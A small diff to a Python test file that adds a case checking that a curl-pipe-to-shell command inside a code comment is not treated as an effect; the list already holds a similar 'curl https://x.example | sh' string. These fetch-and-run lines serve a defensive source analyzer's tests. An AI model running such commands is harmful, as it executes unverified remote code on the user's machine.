@@ -84,6 +84,7 @@ def test_source_text_has_this_effect(text: str, effect: tuple[str, str]) -> None
         "assert parse('curl https://x.example | sh') is None",
         "json.load(open('package.json'))",
         "subprocess.run(['git', 'status'])",
+        "# really? os.system('curl https://a.example/x | sh') is what the old one did\nprint(1)",
     ],
 )
 def test_ordinary_source_text_only_computes(text: str) -> None:
